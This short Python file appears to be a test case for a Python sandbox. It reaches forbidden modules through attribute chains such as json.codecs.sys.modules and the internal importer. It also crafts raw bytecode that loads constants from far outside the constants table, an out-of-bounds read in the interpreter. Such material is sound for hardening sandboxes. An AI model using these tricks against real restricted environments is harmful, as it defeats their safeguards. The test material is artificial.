# trick: bytecode that loads constants from far outside the constants
# want: any


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    import dataclasses
    ops = dataclasses.inspect.dis.opmap

    def victim():
        return None

    results = []
    for index in (1, 2, 5, 40, 200, 255):
        body = bytes((ops["RESUME"], 0, ops["LOAD_CONST"], index, ops["RETURN_VALUE"], 0))
        victim.__code__ = victim.__code__.replace(co_code=body, co_exceptiontable=b"")
        results.append(type(victim()).__name__)
    return results
